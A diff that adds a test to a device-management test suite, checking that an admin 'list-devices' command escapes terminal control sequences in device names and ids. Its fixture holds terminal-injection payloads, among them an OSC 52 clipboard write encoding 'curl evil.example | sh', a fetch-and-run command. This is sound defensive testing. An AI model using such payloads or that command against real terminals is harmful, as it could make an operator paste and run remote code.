@@ -87,6 +87,18 @@ describe('[retire] retirement', () => {
     await expect(admin('resolve-quarantine', '--id', String(quarantine[1]!.id), '--note', 'again')).rejects.toThrow(/not found/);
   });
 
+  it('[retire] list-devices prints the id and the name a device chose escaped: no control sequence reaches the terminal', async () => {
+    const coord = await api.user('coord1', 'coordinator');
+    // an OSC 52 clipboard write ("curl evil.example | sh"), a newline, and in the id a screen
+    // clear, a one-character C1 CSI and a right-to-left override
+    const phone = new DeviceClient(api, 'evil\u001b[2J\u009b31m\u202ephone');
+    expect((await phone.signIn(coord)).status).toBe(200);
+    expect((await phone.enrol('\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007オンコール携帯\n2')).status).toBe(200);
+    const row = (await admin('list-devices')).find((l) => l.startsWith('evil'))!;
+    expect(row.split('\t')).toEqual(['evil\\x1b[2J\\x9b31m\\u202ephone', '\\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\x07オンコール携帯\\x0a2', 'coord1', 'seq 0', '有効']);
+    expect(row).not.toMatch(/[\u0000-\u0008\u000a-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/u);
+  });
+
   it('[retire] only a retired device may say it wipes, with its own secret', async () => {
     const coord = await api.user('coord1', 'coordinator');
     const phone = await new DeviceClient(api, 'phone-1').join(coord);
